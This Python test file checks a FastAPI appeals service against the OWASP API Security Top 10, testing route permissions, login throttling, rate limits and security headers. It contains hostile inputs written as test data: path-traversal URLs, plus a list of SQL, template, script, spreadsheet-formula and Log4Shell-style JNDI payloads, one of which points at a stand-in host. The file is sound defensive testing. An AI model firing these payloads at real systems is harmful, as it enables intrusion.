"""The OWASP API Security Top 10 (2023), item by item. What does not apply, and why: docs/security.md."""

from __future__ import annotations

import ast
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi import APIRouter, FastAPI
from fastapi.testclient import TestClient

from serving.app import create_app
from serving.messages import Problem
from serving.security.guard import declared_routes
from serving.security.roles import ROLES, SCOPES
from tests.fakes import FakePredictor
from tests.guarded import PASSWORD, Closed, bearer, closed, new_key, opened, production
from tests.running import appeal, loads, problem, until

ROOT = Path(__file__).parent.parent
EVERYBODY = frozenset({"anonymous", *SCOPES})
SIGNED_IN = SCOPES
NDJSON = b'{"id": "T-9", "text": "\xe8\xb7\xaf\xe7\x81\xaf\xe5\x9d\x8f\xe4\xba\x86"}\n'

REVIEWERS = frozenset({"review"})
LEADS = frozenset({"role:lead"})  # people alone, no key
LEADS_HOLD = {"role:lead": frozenset({"review"})}  # the scope that the document tells of such a route

# (method, path) -> who gets in. A new route must be put in here: say who may call it, and why not others.
WHO: dict[tuple[str, str], frozenset[str]] = {
    ("GET", "/livez"): EVERYBODY,
    ("GET", "/readyz"): EVERYBODY,
    ("GET", "/login"): EVERYBODY,
    ("GET", "/static"): EVERYBODY,
    ("GET", "/v1/session"): EVERYBODY,
    ("POST", "/v1/session"): EVERYBODY,
    ("DELETE", "/v1/session"): SIGNED_IN,
    ("GET", "/"): SIGNED_IN,
    ("GET", "/review"): frozenset({"review"}),
    ("GET", "/leads"): LEADS,
    ("GET", "/openapi.json"): SIGNED_IN,
    ("GET", "/v1/scheme"): SIGNED_IN,
    ("GET", "/v1/model"): SIGNED_IN,
    ("POST", "/v1/classify"): frozenset({"intake", "review", "train"}),
    ("POST", "/v1/appeals"): frozenset({"intake"}),
    ("POST", "/v1/appeals:bulk"): frozenset({"intake"}),
    ("GET", "/v1/appeals/{id}"): frozenset({"intake", "review"}),
    ("GET", "/v1/appeals/{id}/original"): frozenset({"review"}),
    ("GET", "/v1/review/queues"): REVIEWERS,
    ("GET", "/v1/review/labels"): REVIEWERS,
    ("POST", "/v1/review/take"): REVIEWERS,
    ("POST", "/v1/review/appeals/{id}/take"): REVIEWERS,
    ("POST", "/v1/review/leases/{number}/labels"): REVIEWERS,
    ("POST", "/v1/review/leases/{number}/extend"): REVIEWERS,
    ("POST", "/v1/review/leases/{number}/release"): REVIEWERS,
    ("POST", "/v1/review/leases/{number}/skip"): REVIEWERS,
    ("POST", "/v1/review/leases/{number}/undo"): REVIEWERS,
    ("GET", "/v1/review/appeals/{id}"): REVIEWERS,
    ("GET", "/v1/review/appeals/{id}/history"): REVIEWERS,
    ("GET", "/v1/review/appeals/{id}/similar"): REVIEWERS,
    ("POST", "/v1/review/appeals/{id}/flags"): REVIEWERS,
    ("DELETE", "/v1/review/flags/{number}"): REVIEWERS,
    ("POST", "/v1/review/bulk/preview"): REVIEWERS,
    ("POST", "/v1/review/bulk"): REVIEWERS,
    ("POST", "/v1/review/bulk/withdraw"): REVIEWERS,
    ("POST", "/v1/review/appeals/{id}/adjudication"): LEADS,
    ("GET", "/v1/review/disputes"): LEADS,
    ("GET", "/v1/review/figures"): LEADS,
    ("PUT", "/v1/review/rules"): LEADS,
    ("GET", "/metrics"): frozenset({"operate"}),
    ("GET", "/v1/versions"): frozenset({"train", "operate"}),
    ("GET", "/v1/versions/shadow"): frozenset({"train", "operate"}),
    ("GET", "/v1/versions/{version}"): frozenset({"train", "operate"}),
    ("POST", "/v1/versions"): frozenset({"train"}),  # whoever makes models does not decide which one answers
    ("POST", "/v1/versions/{version}/shadow"): frozenset({"train", "operate"}),
    ("DELETE", "/v1/versions:shadow"): frozenset({"train", "operate"}),
    ("POST", "/v1/versions/{version}/promote"): frozenset({"operate"}),
    ("POST", "/v1/versions/{version}/canary"): frozenset({"operate"}),
    ("DELETE", "/v1/versions:canary"): frozenset({"operate"}),
    ("POST", "/v1/versions:rollback"): frozenset({"operate"}),
}
SENT: dict[tuple[str, str], dict[str, Any]] = {
    ("POST", "/v1/session"): {"json": {"name": "nobody", "password": "falsch-falsch-falsch"}},
    ("POST", "/v1/classify"): {"json": {"texts": ["路灯坏了"]}},
    ("POST", "/v1/appeals"): {"json": appeal("T-1")},
    ("POST", "/v1/appeals:bulk"): {"content": NDJSON, "headers": {"Content-Type": "application/x-ndjson"}},
}
SHUT_OUT = {"not_signed_in", "not_allowed"}


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Closed]:
    with closed(tmp_path_factory.mktemp("owasp"), address_requests_burst=10_000) as found:
        yield found


def routes(app: FastAPI) -> set[tuple[str, str]]:
    """Every method and path the application has."""
    found = set()
    for declared in declared_routes(app.router.routes):
        methods = getattr(declared.route, "methods", None) or {"GET"}
        found |= {(method, declared.path) for method in methods - {"HEAD"}}
    return found


def let_in(client: TestClient, method: str, path: str, headers: dict[str, str]) -> bool:
    """Whether the guard let a request through, whatever became of it then."""
    address = path.replace("{id}", "T-1").replace("{number}", "1").replace("/static", "/static/login.js")
    given = dict(SENT.get((method, path), {}))
    headers = {**given.pop("headers", {}), **headers}
    answer = client.request(method, address, headers=headers, follow_redirects=False, **given)
    if answer.status_code == 303:
        assert answer.headers["Location"] == "/login"
        return False
    if answer.status_code == 403 and answer.headers["Content-Type"].startswith("text/html"):
        assert "无权查看此页" in answer.text
        return False
    if answer.status_code in (401, 403):
        return Problem.model_validate(answer.json()).error.code not in SHUT_OUT
    assert answer.status_code < 500, answer.text
    return True


# --- API1: object-level authorisation -----------------------------------------------------------


def test_api1_a_client_sees_its_own_appeals_only(tmp_path: Path) -> None:
    with opened(tmp_path) as access:
        first, second = new_key(access, "telephone", "intake"), new_key(access, "web", "intake")
        renewed = new_key(access, "telephone", "intake")
    with closed(tmp_path) as it:
        sent = appeal("S-1")
        taken = it.client.post("/v1/appeals", json=sent, headers=bearer(first))
        assert taken.status_code == 201
        problem(it.client.get("/v1/appeals/S-1", headers=bearer(second)), 404, "appeal_not_found")
        problem(it.client.post("/v1/appeals", json=sent, headers=bearer(second)), 409, "appeal_conflict")
        bulk = {**bearer(second), "Content-Type": "application/x-ndjson"}
        line = orjson.dumps({"id": "S-1", "text": sent["text"]})
        told = it.client.post("/v1/appeals:bulk", content=line, headers=bulk).text.splitlines()[0]
        assert '"status":409' in told and "category" not in told
        for headers in (bearer(first), bearer(renewed), it.key("review")):
            assert it.client.get("/v1/appeals/S-1", headers=headers).content == taken.content
        assert it.client.post("/v1/appeals", json=sent, headers=bearer(renewed)).status_code == 200


def test_api1_nobody_has_anothers_session(shared: Closed) -> None:
    reviewer, operator = shared.signed_in("reviewer"), shared.signed_in("operator")
    assert reviewer.get("/v1/session").json()["name"] == "reviewer"
    assert operator.delete("/v1/session").status_code == 204
    assert reviewer.get("/v1/session").json()["kind"] == "user"


# --- API2: broken authentication ----------------------------------------------------------------


def test_api2_guesses_are_slowed_down_and_say_nothing(tmp_path: Path) -> None:
    with closed(tmp_path, address_requests_burst=100) as it:
        body = {"name": "operator", "password": "falsch-falsch-falsch"}
        codes = [it.browser().post("/v1/session", json=body).json()["error"]["code"] for _ in range(20)]
    assert set(codes) <= {"wrong_login", "login_wait"}
    assert codes[:5] == ["wrong_login"] * 5 and "login_wait" in codes


def test_api2_a_secret_is_taken_from_its_own_place_only(shared: Closed) -> None:
    key = shared.keys["intake"]
    for path in (f"/v1/scheme?key={key}", f"/v1/scheme?api_key={key}", f"/v1/scheme?access_token={key}"):
        problem(shared.client.get(path), 401, "not_signed_in")
    for headers in ({"X-API-Key": key}, {"Cookie": f"__Host-jiesu={key}"}, {"Cookie": f"jiesu={key}"}):
        problem(shared.client.get("/v1/scheme", headers=headers), 401, "not_signed_in")
    token = shared.signed_in("reviewer").cookies["__Host-jiesu"]
    problem(shared.client.get("/v1/scheme", headers=bearer(token)), 401, "not_signed_in")


# --- API3: property-level authorisation ---------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "scope"),
    [
        ("/v1/appeals", appeal("M-1", taken_by="web"), "intake"),
        ("/v1/appeals", appeal("M-1", body_sha256="0" * 64), "intake"),
        ("/v1/appeals", appeal("M-1", urgency="特急", decision={"action": "auto_dispatch"}), "intake"),
        ("/v1/appeals", appeal("M-1", place={"city": "江城", "number": 1}), "intake"),
        ("/v1/classify", {"texts": ["路灯坏了"], "store": True}, "intake"),
        ("/v1/session", {"name": "reviewer", "password": PASSWORD, "role": "operator"}, "intake"),
        ("/v1/session", {"name": "reviewer", "password": PASSWORD, "scopes": ["operate"]}, "intake"),
    ],
)
def test_api3_fields_that_nobody_may_set_are_refused(
    shared: Closed, path: str, body: dict[str, Any], scope: str
) -> None:
    headers = {**shared.key(scope), "Sec-Fetch-Site": "same-origin"}
    error = problem(shared.client.post(path, json=body, headers=headers), 422, "invalid_input")
    assert error["message"] == "多余的字段"


def test_api3_answers_hold_what_is_documented_and_no_more(shared: Closed) -> None:
    document = shared.client.get("/openapi.json", headers=shared.key("operate")).json()
    allowed = set(document["components"]["schemas"]["Answer"]["properties"])
    shared.client.post("/v1/appeals", json=appeal("F-1"), headers=shared.key("intake"))
    read = shared.client.get("/v1/appeals/F-1", headers=shared.key("intake")).json()
    assert set(read) == allowed and not {"taken_by", "body_sha256", "number"} & set(read)
    me = shared.signed_in("reviewer").get("/v1/session").json()
    assert set(me) == set(document["components"]["schemas"]["SessionOut"]["properties"])
    assert not {"password", "token", "number"} & set(me)


def test_api3_reasons_that_name_hosts_and_folders_are_for_operators(tmp_path: Path) -> None:
    with closed(tmp_path) as it:
        (tmp_path / "jiesu.db").rename(tmp_path / "away")
        until(lambda: it.client.get("/readyz").status_code == 503)
        for headers in ({}, it.key("intake"), it.key("review")):
            answer = it.client.get("/readyz", headers=headers)
            assert answer.json()["problems"] == {"store": ""} and str(tmp_path) not in answer.text
        told = it.client.get("/readyz", headers=it.key("operate")).json()["problems"]["store"]
        assert told
        login = it.browser().post("/v1/session", json={"name": "lead", "password": PASSWORD})
        assert problem(login, 503, "store_not_ready")["got"] == ""
        (tmp_path / "away").rename(tmp_path / "jiesu.db")


# --- API4: resource consumption -----------------------------------------------------------------


def test_api4_sizes_are_limited(tmp_path: Path) -> None:
    with closed(tmp_path, max_body_bytes=2048) as it:
        key = it.key("intake")
        large = it.client.post("/v1/appeals", json=appeal("L-1", "井" * 2000), headers=key)
        problem(large, 413, "body_too_large")
        many = it.client.post("/v1/classify", json={"texts": ["a"] * 257}, headers=key)
        problem(many, 422, "invalid_input")
        login = {"name": "lead", "password": "x" * 300}
        problem(it.browser().post("/v1/session", json=login), 422, "invalid_input")


def test_api4_a_stranger_is_refused_before_the_body_is_read(shared: Closed) -> None:
    read: list[int] = []

    async def receive() -> dict[str, Any]:
        read.append(1)
        return {"type": "http.request", "body": b" " * 1024, "more_body": True}

    sent: list[dict[str, Any]] = []

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {
        "type": "http", "method": "POST", "path": "/v1/appeals", "raw_path": b"/v1/appeals",
        "query_string": b"", "headers": [(b"content-type", b"application/json")],
        "client": ("10.9.9.9", 1), "scheme": "https", "server": ("jiesu.test", 443), "http_version": "1.1",
        "root_path": "", "app": shared.app,
    }  # fmt: skip
    portal = shared.client.portal
    assert portal is not None
    portal.call(shared.app, scope, receive, send)
    assert sent[0]["status"] == 401 and read == []


def test_api4_every_caller_has_a_rate_limit(tmp_path: Path) -> None:
    given: dict[str, Any] = {
        "key_requests_per_second": 0.01,
        "key_requests_burst": 2,
        "address_requests_per_second": 0.01,
        "address_requests_burst": 2,
    }
    with closed(tmp_path, **given) as it:
        browser = it.signed_in("reviewer")
        for client, headers in ((it.client, it.key("train")), (browser, {}), (it.client, {})):
            last = [client.get("/v1/scheme", headers=headers) for _ in range(3)][-1]
            assert problem(last, 429, "rate_limited")["field"].endswith("_requests_per_second")
            assert int(last.headers["Retry-After"]) >= 1


# --- API5: function-level authorisation ---------------------------------------------------------


def test_api5_every_route_says_who_may_call_it(shared: Closed) -> None:
    assert routes(shared.app) == set(WHO), "a route is new or gone: say in WHO who may call it"


@pytest.mark.parametrize(("method", "path"), sorted(WHO))
def test_api5_every_route_by_every_key(shared: Closed, method: str, path: str) -> None:
    keys = {"anonymous": {}, **{scope: shared.key(scope) for scope in SCOPES}}
    found = {who for who, headers in keys.items() if let_in(shared.client, method, path, headers)}
    assert found == {who for who in WHO[method, path] if not who.startswith("role:")}


@pytest.mark.parametrize("role", sorted(ROLES))
def test_api5_every_route_by_every_role(shared: Closed, role: str) -> None:
    let = {"anonymous", f"role:{role}", *ROLES[role]}
    for (method, path), who in WHO.items():
        if (method, path) in {("POST", "/v1/session"), ("DELETE", "/v1/session")}:
            continue  # these end the session that the others need
        browser = shared.signed_in(role)
        assert let_in(browser, method, path, {}) == bool(who & let), (method, path)


def test_api5_a_route_that_declares_nothing_does_not_start(tmp_path: Path) -> None:
    router = APIRouter()

    @router.get("/v1/secret")
    async def secret() -> dict[str, str]:
        return {"everything": "told"}

    app = create_app(production(tmp_path), loads(FakePredictor()))
    app.include_router(router)
    with pytest.raises(RuntimeError, match="/v1/secret"), TestClient(app):
        pass


@pytest.mark.parametrize(
    "path",
    ["/v1/appeals/../metrics", "//metrics", "/metrics/", "/metrics%0A", "/METRICS", "/metrics%00",
     "/./metrics", "/v1/scheme%0a", "/static/../metrics", "/static/%2e%2e/settings.py",
     "/static/..%2f..%2fsettings.py"],
)  # fmt: skip
def test_api5_no_spelling_of_an_address_gets_around_the_guard(shared: Closed, path: str) -> None:
    scope = {
        "type": "http", "method": "GET", "raw_path": path.encode(), "query_string": b"", "headers": [],
        "client": ("10.9.9.9", 1), "scheme": "https", "server": ("jiesu.test", 443), "http_version": "1.1",
        "root_path": "", "app": shared.app, "path": _decoded(path),
    }  # fmt: skip
    sent: list[Any] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    assert shared.client.portal is not None
    shared.client.portal.call(shared.app, scope, receive, send)
    assert sent[0]["status"] in (401, 404)


def _decoded(path: str) -> str:
    from urllib.parse import unquote

    return unquote(path)


# --- API6: business flows; API7: server-side requests -------------------------------------------


def test_api7_the_service_sends_no_requests(shared: Closed) -> None:
    """Nothing in the serving room, nor in what it answers with, can open an outgoing HTTP connection."""
    clients = {
        "requests",
        "httpx",
        "aiohttp",
        "urllib3",
        "http.client",
        "urllib.request",
        "ftplib",
        "smtplib",
    }
    found = {
        f"{path.relative_to(ROOT)}: {name}"
        for room in ("data", "classifier", "serving")
        for path in (ROOT / room).rglob("*.py")
        for name in _imported(path)
        if name in clients or name.split(".")[0] in clients
    }
    assert found == set()


def _imported(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    names = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    return names | {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}


# --- API8: misconfiguration ---------------------------------------------------------------------


def test_api8_every_answer_carries_the_security_headers(shared: Closed) -> None:
    answers = [
        shared.client.get("/livez"), shared.client.get("/login"), shared.client.get("/static/login.js"),
        shared.client.get("/none"), shared.client.get("/v1/scheme"), shared.client.put("/livez"),
        shared.client.get("/", follow_redirects=False),
        shared.client.get("/metrics", headers=shared.key("operate")),
        shared.client.post("/v1/appeals", content=b"{", headers=shared.key("intake")),
    ]  # fmt: skip
    for answer in answers:
        headers = answer.headers
        policy = headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy and "http:" not in policy and "*" not in policy
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert "geolocation=()" in headers["Permissions-Policy"]
        assert headers["Strict-Transport-Security"].startswith("max-age=")
        assert "Server" not in headers and "X-Powered-By" not in headers
        assert "X-Jiesu-Environment" not in headers
        assert not [name for name in headers if name.lower().startswith("access-control-")]
        assert headers.get("Cache-Control") == (
            None if "static" in str(answer.url) else "no-cache" if "login" in str(answer.url) else "no-store"
        )


def test_api8_other_origins_are_not_let_in(shared: Closed) -> None:
    asked = {"Origin": "https://evil.test", "Access-Control-Request-Method": "POST"}
    answer = shared.client.options("/v1/appeals", headers=asked)
    assert answer.status_code in (401, 405) and "access-control-allow-origin" not in answer.headers


def test_api8_a_mistake_of_ours_tells_nothing(tmp_path: Path) -> None:
    with closed(tmp_path, FakePredictor(fail_on="毒")) as it:
        answer = it.client.post("/v1/classify", json={"texts": ["毒"]}, headers=it.key("intake"))
        assert "Traceback" not in answer.text and "tests/" not in answer.text
        problem(answer, 503, "model_failed")
        it.app.state.service.model = lambda: 1 / 0
        told = it.client.get("/v1/scheme", headers=it.key("intake"))
        assert told.status_code == 500 and "ZeroDivision" not in told.text
        assert Problem.model_validate(told.json()).error.message == "服务内部错误"


# --- API9: inventory ----------------------------------------------------------------------------


def test_api9_what_answers_is_what_is_documented(shared: Closed) -> None:
    document = shared.client.get("/openapi.json", headers=shared.key("operate")).json()
    documented = {(method.upper(), path) for path, methods in document["paths"].items() for method in methods}
    pages = {("GET", page) for page in ("/", "/review", "/leads", "/login", "/static", "/openapi.json")}
    assert routes(shared.app) == documented | pages
    for path in ("/docs", "/redoc", "/admin", "/debug", "/v2/appeals", "/.env", "/static/../settings.py"):
        assert shared.client.get(path, headers=shared.key("operate")).status_code == 404


def test_api9_the_document_says_which_scope_each_route_needs(shared: Closed) -> None:
    document = shared.client.get("/openapi.json", headers=shared.key("operate")).json()
    assert document["components"]["securitySchemes"]["key"]["scheme"] == "bearer"
    for (method, path), who in WHO.items():
        operation = document["paths"].get(path, {}).get(method.lower())
        if operation is None:
            continue
        told = {scope for one in operation.get("security", []) for scope in one.get("key", [])}
        asked = {scope for one in who for scope in LEADS_HOLD.get(one, {one})}
        assert told == (asked if who not in (EVERYBODY, SIGNED_IN) else frozenset()), (method, path)
        if who != EVERYBODY:
            assert {"401", "403"} <= set(operation["responses"]), (method, path)


# --- API10: unsafe consumption ------------------------------------------------------------------

HOSTILE = (
    "'; DROP TABLE appeals; --", "${jndi:ldap://evil.test/a}", "{{7*7}}", "<script>alert(1)</script>井盖",
    "井盖\x00不见了", "\u202e井盖", "=cmd|'/c calc'!A1", "../../etc/passwd", "\ud83d" + "\ude00" * 1,
)  # fmt: skip


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_api10_what_the_intake_system_sends_is_words_and_nothing_else(shared: Closed, number: int) -> None:
    text = HOSTILE[number].encode("utf-16", "surrogatepass").decode("utf-16")
    key = shared.key("intake")
    sent = shared.client.post("/v1/appeals", json=appeal(f"H-{number}", text), headers=key)
    assert sent.status_code == 201, sent.text
    assert shared.client.get(f"/v1/appeals/H-{number}", headers=key).content == sent.content
    database = shared.app.state.service.settings.database_url.removeprefix("sqlite:///")
    with closing(sqlite3.connect(database)) as plain:
        (kept,) = plain.execute("SELECT text FROM appeals WHERE id = ?", (f"H-{number}",)).fetchone()
    assert kept
